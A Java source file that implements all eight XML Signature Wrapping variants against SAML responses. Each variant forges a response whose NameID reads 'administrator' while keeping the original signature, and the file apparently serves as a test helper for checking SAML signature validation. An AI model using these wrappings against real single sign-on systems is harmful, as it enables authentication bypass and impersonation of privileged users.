package dev.sallyport;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.Base64;
import java.util.function.Consumer;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.OutputKeys;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.xml.sax.InputSource;

/**
 * The eight known ways to wrap what is signed of a SAML response into one that says something else
 * (Somorovsky et al., On Breaking SAML, 2012).
 */
enum Wrapping {
  XSW1(true) {
    @Override
    void wrap(Document document) {
      var original = (Element) document.getDocumentElement().cloneNode(true);
      drop(original, "Signature");
      named(document.getDocumentElement());
      child(document.getDocumentElement(), "Signature").appendChild(original);
    }
  },
  XSW2(true) {
    @Override
    void wrap(Document document) {
      var root = document.getDocumentElement();
      var original = (Element) root.cloneNode(true);
      drop(original, "Signature");
      named(root);
      root.insertBefore(original, child(root, "Signature"));
    }
  },
  XSW3(false) {
    @Override
    void wrap(Document document) {
      var root = document.getDocumentElement();
      root.insertBefore(evil(assertion(document)), assertion(document));
    }
  },
  XSW4(false) {
    @Override
    void wrap(Document document) {
      var signed = assertion(document);
      var evil = evil(signed);
      document.getDocumentElement().replaceChild(evil, signed);
      evil.appendChild(signed);
    }
  },
  XSW5(false) {
    @Override
    void wrap(Document document) {
      var signed = assertion(document);
      var original = (Element) signed.cloneNode(true);
      drop(original, "Signature");
      named(signed);
      document.getDocumentElement().appendChild(original);
    }
  },
  XSW6(false) {
    @Override
    void wrap(Document document) {
      var signed = assertion(document);
      var original = (Element) signed.cloneNode(true);
      drop(original, "Signature");
      named(signed);
      child(signed, "Signature").appendChild(original);
    }
  },
  XSW7(false) {
    @Override
    void wrap(Document document) {
      var root = document.getDocumentElement();
      var extensions = document.createElementNS(root.getNamespaceURI(), "samlp:Extensions");
      extensions.appendChild(evilOfSameId(assertion(document)));
      root.insertBefore(extensions, assertion(document));
    }
  },
  XSW8(false) {
    @Override
    void wrap(Document document) {
      var signed = assertion(document);
      var original = (Element) signed.cloneNode(true);
      drop(original, "Signature");
      named(signed);
      var signature = child(signed, "Signature");
      var object = document.createElementNS(signature.getNamespaceURI(), "ds:Object");
      object.appendChild(original);
      signature.appendChild(object);
    }
  };

  static final String EVIL = "administrator";

  /** Whether it is the response that is signed, and not its assertion. */
  final boolean whole;

  Wrapping(boolean whole) {
    this.whole = whole;
  }

  abstract void wrap(Document document);

  /** A response in Base64, changed. */
  static String changed(String response, Consumer<Document> how) {
    try {
      var factory = DocumentBuilderFactory.newInstance();
      factory.setNamespaceAware(true);
      var text = new String(Base64.getDecoder().decode(response), UTF_8);
      var document = factory.newDocumentBuilder().parse(new InputSource(new StringReader(text)));
      how.accept(document);
      var written = new StringWriter();
      var transformer = TransformerFactory.newInstance().newTransformer();
      transformer.setOutputProperty(OutputKeys.OMIT_XML_DECLARATION, "yes");
      transformer.transform(new DOMSource(document), new StreamResult(written));
      return Base64.getEncoder().encodeToString(written.toString().getBytes(UTF_8));
    } catch (Exception broken) {
      throw new IllegalStateException(broken);
    }
  }

  static Element assertion(Document document) {
    return child(document.getDocumentElement(), "Assertion");
  }

  static Element child(Element of, String name) {
    for (var each = of.getFirstChild(); each != null; each = each.getNextSibling()) {
      if (name.equals(each.getLocalName())) {
        return (Element) each;
      }
    }
    throw new IllegalStateException("no " + name);
  }

  static void drop(Element of, String name) {
    of.removeChild(child(of, name));
  }

  private static Element evil(Element assertion) {
    var copy = evilOfSameId(assertion);
    copy.setAttribute("ID", "_evil");
    return copy;
  }

  private static Element evilOfSameId(Element assertion) {
    var copy = (Element) assertion.cloneNode(true);
    drop(copy, "Signature");
    name(copy);
    return copy;
  }

  /** Makes it say something else, under another ID. */
  private static void named(Element element) {
    element.setAttribute("ID", "_evil");
    name(element);
  }

  private static void name(Element element) {
    element.getElementsByTagNameNS("*", "NameID").item(0).setTextContent(EVIL);
  }
}
